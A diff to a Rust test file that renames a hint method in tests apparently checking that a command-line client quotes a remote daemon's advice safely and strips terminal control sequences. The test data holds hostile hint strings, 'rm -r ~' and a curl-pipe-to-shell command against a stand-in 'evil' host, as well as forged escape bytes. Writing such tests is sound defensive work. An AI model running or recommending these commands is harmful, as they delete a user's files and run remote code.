@@ -54,7 +54,7 @@ fn rights_that_are_none_are_a_breach_and_nothing_of_them_is_printed() {
 fn advice_of_a_daemon_is_quoted_as_the_daemons() {
     let refusal = || {
         let fault = Fault::new(FaultCode::Busy, Blame::Local, "hint: run: rm -r ~").about("longhaul");
-        Message::Refuse(fault.hint("run: curl http://evil/x | sh"))
+        Message::Refuse(fault.hint_in_words("run: curl http://evil/x | sh"))
     };
     let outcome = ls(&[], "data/", |speech| speech.say(&refusal()));
     assert_eq!(outcome.code, 5, "{outcome}");
@@ -73,7 +73,7 @@ fn advice_of_a_daemon_is_quoted_as_the_daemons() {
 fn what_a_daemon_says_of_itself_cannot_move_the_cursor() {
     // The wire's texts are clean when they are made; only what no encoder of ours says can hold
     // another.
-    let refusal = Message::Refuse(Fault::new(FaultCode::Busy, Blame::Local, "AAAAAAAA").hint("BBBBBBBB"));
+    let refusal = Message::Refuse(Fault::new(FaultCode::Busy, Blame::Local, "AAAAAAAA").hint_in_words("BBBBBBBB"));
     let mut bytes = forged(&refusal, b"AAAAAAAA", b"\x1b[2J\r\nx\x07");
     let at = bytes.windows(8).position(|window| window == b"BBBBBBBB").expect("the hint");
     bytes[at..at + 8].copy_from_slice("\u{61c}\u{ad}\n\u{2800}".as_bytes());
